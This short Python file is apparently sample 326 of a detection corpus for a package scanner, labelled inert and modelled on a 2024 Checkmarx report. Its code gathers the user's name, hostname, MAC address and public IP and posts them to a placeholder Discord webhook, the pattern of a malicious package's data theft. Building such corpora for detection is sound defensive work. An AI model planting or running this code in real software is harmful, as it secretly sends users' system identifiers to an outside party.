# pkgguard corpus 326 (system-information), modelled on [checkmarx-2024]; inert, never run.
import getpass
import socket
import uuid

import requests

ip = requests.get("https://api.ipify.org", timeout=5).text
profile = {
    "user": getpass.getuser(),
    "host": socket.gethostname(),
    "mac": hex(uuid.getnode()),
    "ip": ip,
}
requests.post(
    "https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder",
    json={"content": str(profile)},
    timeout=5,
)
